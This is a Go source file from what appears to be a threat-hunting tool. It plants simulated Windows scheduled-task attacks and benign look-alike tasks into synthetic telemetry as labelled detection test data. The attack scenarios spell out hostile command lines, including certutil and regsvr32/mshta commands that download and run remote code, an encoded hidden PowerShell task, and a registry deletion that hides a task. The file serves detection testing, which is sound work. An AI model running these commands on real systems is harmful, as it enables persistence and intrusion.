package simulate

import (
	"crypto/sha256"
	"fmt"
	"strings"

	"github.com/goshawk-hunt/goshawk/evidence"
)

// scenario is one planted story: an attack, or the benign act that looks like it.
type scenario struct {
	name       string
	role       string // "attack", "benign_twin"
	device     int    // index; the first device of the wanted kind from there on
	server     bool
	daysBefore float64 // the end
	task       Task
	techniques []string
	what       string
	play       func(*generator, *Device, *Task, int64) // events from the given time on
}

const (
	attack = "attack"
	twin   = "benign_twin"
)

// plant plays every scenario and writes its label.
func (g *generator) plant() {
	for i, s := range scenarios() {
		d := g.pick(s.device, s.server)
		at := g.Options.End - int64(s.daysBefore*float64(day)) + int64(i)*7*minute
		if at < g.start {
			continue
		}
		from := len(g.Events)
		g.label = s.name
		task := s.task
		s.play(g, d, &task, at)
		g.label = ""
		first, last := g.Events[from].Time, g.Events[from].Time
		for _, e := range g.Events[from:] {
			first, last = min(first, e.Time), max(last, e.Time)
		}
		command := ""
		if n := len(s.task.Actions); n > 0 {
			a := s.task.Actions[n-1]
			command = strings.TrimSpace(a.Command + " " + a.Arguments)
		}
		g.Labels = append(g.Labels, Label{Scenario: s.name, Role: s.role, Device: d.Name, Task: s.task.Path, Command: command,
			Techniques: s.techniques, What: s.what, First: evidence.FormatTime(first), Last: evidence.FormatTime(last)})
	}
}

// pick returns the device at an index, or the next one that is a server if wanted.
func (g *generator) pick(index int, server bool) *Device {
	for i := range g.Devices {
		if d := g.Devices[(index+i)%len(g.Devices)]; d.Server == server {
			return d
		}
	}
	return g.Devices[index%len(g.Devices)]
}

func one(path, author, trigger, principal string, highest bool, command, arguments string) Task {
	t := vendorTask(path, author, trigger, principal, command, arguments)
	t.Highest = highest
	return t
}

// created registers a task by a process, with the traces that the Schedule
// service leaves in the registry.
func (g *generator) created(d *Device, t *Task, by *Process, at int64) {
	g.task(TaskCreated, t, by, at)
	g.registry(d.schedule, RegistrySet, at+second/5, taskCache+`Tree`+t.Path, "Id", taskGUID(t))
	g.registry(d.schedule, RegistrySet, at+second/4, taskCache+`Tasks\`+taskGUID(t), "Path", t.Path)
}

func taskGUID(t *Task) string {
	h := sha256.Sum256([]byte("task " + t.Path))
	return strings.ToUpper(fmt.Sprintf("{%x-%x-%x-%x-%x}", h[:4], h[4:6], h[6:8], h[8:10], h[10:16]))
}

// schtasks runs schtasks.exe from a shell of the user.
func (g *generator) schtasks(parent *Process, at int64, arguments string, who Account) *Process {
	return g.spawn(parent, at, g.windows("schtasks.exe"), "schtasks.exe "+arguments, who)
}

// repeat runs a task's action n times, some hours apart, up to the fleet's end.
func (g *generator) repeat(d *Device, t *Task, at int64, n int, apart int64, file *File, line string, each func(*Process, int64)) {
	for i := range n {
		when := at + int64(i)*apart
		if when >= g.Options.End-minute {
			return
		}
		p := g.run(d, t, when, file, line)
		if each != nil {
			each(p, when)
		}
	}
}

func scenarios() []scenario {
	return append(attacks(), twins()...)
}

func attacks() []scenario {
	ps := sys32 + `WindowsPowerShell\v1.0\powershell.exe`
	return []scenario{
		{"loader", attack, 1, false, 1.6, one(`\OneDrive Reporting Task-S-1-5-21-1004336348`, "", "logon", "user", false, `C:\Users\Public\Libraries\msedgeupd.exe`, `--run`),
			[]string{"T1053.005", "T1036.004"}, "a script attachment registers a logon task under a OneDrive name that runs an unsigned program from a public folder",
			func(g *generator, d *Device, t *Task, at int64) {
				script := g.spawn(d.explorer, at, g.windows("wscript.exe"), `"C:\Windows\System32\WScript.exe" "C:\Users\`+d.User.Name+`\Downloads\invoice_7741.js"`, d.User)
				g.write(script, at+3*second, t.Actions[0].Command)
				s := g.schtasks(script, at+8*second, `/create /f /sc onlogon /tn "`+t.Path[1:]+`" /tr "C:\Users\Public\Libraries\msedgeupd.exe --run"`, d.User)
				g.created(d, t, s, at+9*second)
				g.repeat(d, t, at+2*hour, 2, 16*hour, g.file(t.Actions[0].Command, "", 0), `C:\Users\Public\Libraries\msedgeupd.exe --run`, func(p *Process, when int64) {
					g.connect(p, when+4*second, "203.0.113.77", "cdn-telemetry.example.net", 443)
				})
			}},
		{"encoded", attack, 2, false, 1.4, one(`\Updates\WinSAT Refresh`, d0, "minute:20", "S-1-5-18", true, ps, `-NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`),
			[]string{"T1053.005", "T1059.001", "T1027"}, "PowerShell registers a SYSTEM task that runs an encoded, hidden command every 20 minutes",
			func(g *generator, d *Device, t *Task, at int64) {
				p := g.spawn(d.explorer, at, g.file(ps, "Microsoft Windows", 9_000_000), `powershell.exe -ep bypass -w hidden`, d.User)
				g.add(Event{Kind: ScriptBlock, Time: at + 2*second, Process: p, Text: "$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '" + t.Actions[0].Arguments + "'\r\n$t = New-ScheduledTaskTrigger -Once -At (Get-Date) -RepetitionInterval (New-TimeSpan -Minutes 20)\r\nRegister-ScheduledTask -TaskName 'WinSAT Refresh' -TaskPath '\\Updates' -Action $a -Trigger $t -User SYSTEM -RunLevel Highest -Force"})
				g.created(d, t, p, at+3*second)
				g.repeat(d, t, at+20*minute, 2, 20*minute, g.file(ps, "Microsoft Windows", 9_000_000), ps+" "+t.Actions[0].Arguments, func(p *Process, when int64) {
					g.connect(p, when+3*second, "203.0.113.91", "", 8443)
					g.spawn(p, when+9*second, g.windows("whoami.exe"), `"C:\Windows\system32\whoami.exe" /all`, system)
				})
			}},
		{"rundll32", attack, 3, false, 1.2, one(`\Intel\Thunderbolt\Sync`, "", "minute:60", "user", false, `rundll32.exe`, `C:\ProgramData\Intel\tbsync.dat,#1`),
			[]string{"T1053.005", "T1218.011"}, "a task has rundll32 load a library without its extension, by ordinal, from ProgramData",
			func(g *generator, d *Device, t *Task, at int64) {
				cmd := g.spawn(d.explorer, at, g.windows("cmd.exe"), `cmd.exe /c stage.cmd`, d.User)
				g.write(cmd, at+second, `C:\ProgramData\Intel\tbsync.dat`)
				s := g.schtasks(cmd, at+4*second, `/create /tn \Intel\Thunderbolt\Sync /sc hourly /tr "rundll32.exe C:\ProgramData\Intel\tbsync.dat,#1"`, d.User)
				g.created(d, t, s, at+5*second)
				g.repeat(d, t, at+65*minute, 2, 60*minute, g.windows("rundll32.exe"), `C:\Windows\system32\rundll32.exe C:\ProgramData\Intel\tbsync.dat,#1`, func(p *Process, when int64) {
					g.load(p, when+second, `C:\ProgramData\Intel\tbsync.dat`, "")
					g.connect(p, when+5*second, "203.0.113.12", "sync.example.info", 443)
				})
			}},
		{"remote", attack, 5, true, 1.1, Task{Path: `\qXkPvTzR`, Trigger: "once", Principal: "S-1-5-18", Highest: true, Hidden: true, Remote: true, Actions: []Action{{Command: "cmd.exe", Arguments: `/C net group "domain admins" /domain > C:\Windows\Temp\qXkPvTzR.tmp 2>&1`}}},
			[]string{"T1053.005", "T1021.002"}, "a task with a random name is registered over RPC, run once as SYSTEM and deleted within seconds",
			func(g *generator, d *Device, t *Task, at int64) {
				admin := Account{"corp", "adm-backup", "S-1-5-21-1004336348-1177238915-682003330-1500"}
				logon := Event{Kind: Logon, Time: at - second, Device: d, Account: admin}
				logon.Remote.IP = g.Devices[1].IP
				g.add(logon)
				g.add(Event{Kind: TaskCreated, Time: at, Process: d.schedule, Task: t, Account: admin})
				g.run(d, t, at+second, g.windows("cmd.exe"), `cmd.exe /C net group "domain admins" /domain > C:\Windows\Temp\qXkPvTzR.tmp 2>&1`)
				g.add(Event{Kind: TaskDeleted, Time: at + 3*second, Process: d.schedule, Task: t, Account: admin})
			}},
		{"hijack", attack, 11, false, 1.5, one(`\Adobe Acrobat Update Task`, "Adobe Inc.", "daily", "user", false, `regsvr32.exe`, `/s /n /u /i:https://files.example.net/a.sct scrobj.dll`),
			[]string{"T1053.005", "T1218.010"}, "the action of an updater's task is exchanged for regsvr32 with a script from the network",
			func(g *generator, d *Device, t *Task, at int64) {
				p := g.spawn(d.explorer, at, g.file(ps, "Microsoft Windows", 9_000_000), `powershell.exe -c "Set-ScheduledTask -TaskName 'Adobe Acrobat Update Task' -Action $x"`, d.User)
				g.task(TaskUpdated, t, p, at+2*second)
				g.repeat(d, t, at+30*minute, 1, hour, g.windows("regsvr32.exe"), `C:\Windows\system32\regsvr32.exe /s /n /u /i:https://files.example.net/a.sct scrobj.dll`, func(p *Process, when int64) {
					g.connect(p, when+2*second, "203.0.113.45", "files.example.net", 443)
				})
			}},
		{"second-action", attack, 12, false, 1.7, Task{Path: `\Corp\Printer mapping`, Author: `corp\it`, Trigger: "logon", Principal: "user", Actions: []Action{{Command: pf + `Corp Ops\mapprinters.exe`}, {Command: "mshta.exe", Arguments: `https://assets.example.info/p.hta`}}},
			[]string{"T1053.005", "T1218.005"}, "a task gets a second action behind a legitimate one",
			func(g *generator, d *Device, t *Task, at int64) {
				p := g.spawn(d.explorer, at, g.windows("mmc.exe"), `"C:\Windows\system32\mmc.exe" taskschd.msc`, d.User)
				g.created(d, t, p, at+20*second)
				g.run(d, t, at+3*hour, g.file(pf+`Corp Ops\mapprinters.exe`, "Example Corp", 80), `"C:\Program Files\Corp Ops\mapprinters.exe"`)
				m := g.run(d, t, at+3*hour+second, g.windows("mshta.exe"), `C:\Windows\system32\mshta.exe https://assets.example.info/p.hta`)
				g.connect(m, at+3*hour+3*second, "203.0.113.60", "assets.example.info", 443)
			}},
		{"hidden", attack, 13, false, 1.3, one(`\Microsoft\Windows\Diagnosis\Collector`, "", "minute:10", "S-1-5-18", true, `C:\Windows\Temp\dcol.exe`, ""),
			[]string{"T1053.005", "T1564"}, "a task's security descriptor is deleted from the registry so that no tool lists it, and it goes on running",
			func(g *generator, d *Device, t *Task, at int64) {
				cmd := g.spawn(d.explorer, at, g.windows("cmd.exe"), `cmd.exe /k`, d.User)
				s := g.schtasks(cmd, at+3*second, `/create /ru SYSTEM /tn \Microsoft\Windows\Diagnosis\Collector /sc minute /mo 10 /tr C:\Windows\Temp\dcol.exe`, d.User)
				g.created(d, t, s, at+4*second)
				reg := g.spawn(cmd, at+60*second, g.windows("reg.exe"), `reg  delete "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Microsoft\Windows\Diagnosis\Collector" /v SD /f`, system)
				g.registry(reg, RegistryValueDeleted, at+61*second, taskCache+`Tree`+t.Path, "SD", "")
				g.repeat(d, t, at+10*minute, 2, 10*minute, g.file(`C:\Windows\Temp\dcol.exe`, "", 0), `C:\Windows\Temp\dcol.exe`, func(p *Process, when int64) {
					g.write(p, when+5*second, `C:\Windows\Temp\out.bin`)
				})
			}},
		{"webshell", attack, 19, true, 1.0, one(`\Windows Update Cache`, "", "boot", "S-1-5-18", true, `C:\inetpub\wwwroot\aspnet_client\wuc.exe`, `-svc`),
			[]string{"T1053.005", "T1505.003"}, "the web server's worker process registers a SYSTEM task for a program in the web root",
			func(g *generator, d *Device, t *Task, at int64) {
				pool := Account{"iis apppool", "defaultapppool", "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415"}
				w := g.spawn(d.services, at-hour, g.file(sys32+`inetsrv\w3wp.exe`, "Microsoft Windows", 3_000_000), `c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool"`, pool)
				g.write(w, at, t.Actions[0].Command)
				cmd := g.spawn(w, at+4*second, g.windows("cmd.exe"), `cmd.exe /c schtasks /create /ru SYSTEM /sc onstart /tn "Windows Update Cache" /tr "C:\inetpub\wwwroot\aspnet_client\wuc.exe -svc"`, pool)
				s := g.schtasks(cmd, at+5*second, `/create /ru SYSTEM /sc onstart /tn "Windows Update Cache" /tr "C:\inetpub\wwwroot\aspnet_client\wuc.exe -svc"`, pool)
				g.created(d, t, s, at+6*second)
				g.repeat(d, t, at+hour, 1, hour, g.file(t.Actions[0].Command, "", 0), `C:\inetpub\wwwroot\aspnet_client\wuc.exe -svc`, func(p *Process, when int64) {
					g.connect(p, when+7*second, "203.0.113.150", "", 4443)
				})
			}},
		{"shadowcopy", attack, 22, false, 1.8, one(`\jWqZtMhKpLxV`, "", "minute:1", "S-1-5-18", true, `\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\Windows\Temp\svch0st.exe`, ""),
			[]string{"T1053.005", "T1564"}, "a task runs every minute from a volume shadow copy",
			func(g *generator, d *Device, t *Task, at int64) {
				s := g.schtasks(d.explorer, at, `/create /sc minute /mo 1 /tn "jWqZtMhKpLxV" /tr "\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\Windows\Temp\svch0st.exe"`, d.User)
				g.created(d, t, s, at+second)
				g.repeat(d, t, at+2*minute, 2, minute, g.file(t.Actions[0].Command, "", 0), t.Actions[0].Command, nil)
			}},
		{"certutil", attack, 26, false, 0.9, one(`\Microsoft\Windows\PLA\Server Performance Monitor`, "", "daily", "user", false, `cmd.exe`, `/c certutil -urlcache -split -f http://203.0.113.200/u.txt %TEMP%\u.exe & %TEMP%\u.exe`),
			[]string{"T1053.005", "T1105", "T1036.004"}, "a task under a Microsoft path downloads with certutil and runs what came",
			func(g *generator, d *Device, t *Task, at int64) {
				p := g.spawn(d.explorer, at, g.windows("cmd.exe"), `cmd.exe`, d.User)
				s := g.schtasks(p, at+30*second, `/create /tn "\Microsoft\Windows\PLA\Server Performance Monitor" /sc daily /xml C:\Users\Public\t.xml`, d.User)
				g.created(d, t, s, at+31*second)
				c := g.run(d, t, at+40*minute, g.windows("cmd.exe"), `cmd.exe /c certutil -urlcache -split -f http://203.0.113.200/u.txt %TEMP%\u.exe & %TEMP%\u.exe`)
				u := g.spawn(c, at+40*minute+second, g.windows("certutil.exe"), `certutil  -urlcache -split -f http://203.0.113.200/u.txt C:\Users\`+d.User.Name+`\AppData\Local\Temp\u.exe`, d.User)
				g.connect(u, at+40*minute+2*second, "203.0.113.200", "", 80)
			}},
	}
}

// d0 is the author that the ScheduledTasks cmdlets leave: none.
const d0 = ""

func twins() []scenario {
	ps := sys32 + `WindowsPowerShell\v1.0\powershell.exe`
	admin := Account{"corp", "adm-jonas", "S-1-5-21-1004336348-1177238915-682003330-1600"}
	return []scenario{
		{"twin-loader", twin, 30, false, 1.5, one(`\Slack Update Check`, "", "logon", "user", false, pf+`Slack\update.exe`, `--processStart slack.exe`),
			nil, "an installer registers an updater's logon task for a signed program in Program Files",
			func(g *generator, d *Device, t *Task, at int64) {
				in := g.spawn(d.explorer, at, g.file(pf+`Slack\SlackSetup.exe`, "Slack Technologies, LLC", 800_000), `"C:\Program Files\Slack\SlackSetup.exe"`, d.User)
				g.created(d, t, in, at+5*second)
				g.repeat(d, t, at+hour, 2, 12*hour, g.file(t.Actions[0].Command, "Slack Technologies, LLC", 800_000), `"C:\Program Files\Slack\update.exe" --processStart slack.exe`, nil)
			}},
		{"twin-encoded", twin, 31, false, 1.3, one(`\Corp\Certificate renewal`, `corp\adm-jonas`, "weekly", "S-1-5-18", true, ps, `-NoProfile -ExecutionPolicy AllSigned -File "C:\Program Files\Corp Ops\Renew-Certificates.ps1"`),
			nil, "an administrator registers a SYSTEM task that runs a signed script from Program Files",
			func(g *generator, d *Device, t *Task, at int64) {
				p := g.spawn(d.explorer, at, g.file(ps, "Microsoft Windows", 9_000_000), `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"`, admin)
				g.add(Event{Kind: ScriptBlock, Time: at + 2*second, Process: p, Text: "Register-ScheduledTask -TaskName 'Certificate renewal' -TaskPath '\\Corp' -Xml (Get-Content 'C:\\Program Files\\Corp Ops\\renew.xml' -Raw)"})
				g.created(d, t, p, at+3*second)
				g.repeat(d, t, at+2*hour, 1, hour, g.file(ps, "Microsoft Windows", 9_000_000), ps+" "+t.Actions[0].Arguments, nil)
			}},
		{"twin-rundll32", twin, 32, false, 1.9, one(`\Microsoft\Windows\Application Experience\StartupAppTask`, "Microsoft Corporation", "daily", "user", false, `%windir%\system32\rundll32.exe`, `Startupscan.dll,SusRunTask`),
			nil, "a task of Windows has rundll32 load a library of System32",
			func(g *generator, d *Device, t *Task, at int64) {
				g.repeat(d, t, at, 2, 20*hour, g.windows("rundll32.exe"), `C:\Windows\system32\rundll32.exe Startupscan.dll,SusRunTask`, nil)
			}},
		{"twin-remote", twin, 35, true, 1.2, Task{Path: `\PSWindowsUpdate`, Author: `corp\adm-jonas`, Trigger: "once", Principal: "S-1-5-18", Highest: true, Remote: true, Actions: []Action{{Command: "powershell.exe", Arguments: `-NoProfile -Command Install-WindowsUpdate -AcceptAll -AutoReboot`}}},
			nil, "patching by an administrator: a task registered from the management server, run once and removed",
			func(g *generator, d *Device, t *Task, at int64) {
				g.add(Event{Kind: TaskCreated, Time: at, Process: d.schedule, Task: t, Account: admin})
				g.run(d, t, at+minute, g.file(ps, "Microsoft Windows", 9_000_000), `powershell.exe -NoProfile -Command Install-WindowsUpdate -AcceptAll -AutoReboot`)
				g.add(Event{Kind: TaskDeleted, Time: at + 2*hour, Process: d.schedule, Task: t, Account: admin})
			}},
		{"twin-hijack", twin, 36, false, 1.1, one(`\Adobe Acrobat Update Task`, "Adobe Inc.", "daily", "user", false, pf86+`Common Files\Adobe\ARM\1.0\AdobeARM.exe`, ""),
			nil, "the updater's own installer updates its task",
			func(g *generator, d *Device, t *Task, at int64) {
				in := g.spawn(d.services, at, g.windows("msiexec.exe"), `C:\Windows\system32\msiexec.exe /V`, system)
				g.task(TaskUpdated, t, in, at+9*second)
			}},
		{"twin-hidden", twin, 37, false, 1.4, one(`\Microsoft\Windows\UpdateOrchestrator\AC Power Install`, "", "none", "S-1-5-18", true, `%systemroot%\system32\usoclient.exe`, `StartInstall`),
			nil, "the Schedule service itself deletes a value of the task cache",
			func(g *generator, d *Device, t *Task, at int64) {
				g.registry(d.schedule, RegistryValueDeleted, at, taskCache+`Tasks\`+taskGUID(t), "SecurityDescriptor", "")
			}},
		{"twin-singleton", twin, 41, false, 0.8, one(`\Nightly build`, `corp\r.olsen`, "daily", "user", false, `D:\src\tools\nightly.exe`, `--push`),
			nil, "a developer's own unsigned program run by a task of his",
			func(g *generator, d *Device, t *Task, at int64) {
				s := g.schtasks(d.explorer, at, `/create /tn "Nightly build" /sc daily /tr "D:\src\tools\nightly.exe --push"`, d.User)
				g.created(d, t, s, at+second)
				g.repeat(d, t, at+hour, 1, hour, g.file(t.Actions[0].Command, "", 0), `D:\src\tools\nightly.exe --push`, nil)
			}},
		{"twin-monitoring", twin, 45, true, 1.6, one(`\Monitoring Agent Watchdog`, "Example Monitoring", "minute:5", "S-1-5-18", true, pf+`Example Monitoring\agent.exe`, `watchdog`),
			nil, "a service registers a SYSTEM task that repeats every five minutes, for a signed program",
			func(g *generator, d *Device, t *Task, at int64) {
				svc := g.spawn(d.services, at, g.file(pf+`Example Monitoring\service.exe`, "Example Monitoring Ltd", 40_000), `"C:\Program Files\Example Monitoring\service.exe"`, system)
				g.created(d, t, svc, at+2*second)
				g.repeat(d, t, at+5*minute, 40, 5*minute, g.file(t.Actions[0].Command, "Example Monitoring Ltd", 40_000), `"C:\Program Files\Example Monitoring\agent.exe" watchdog`, nil)
			}},
	}
}
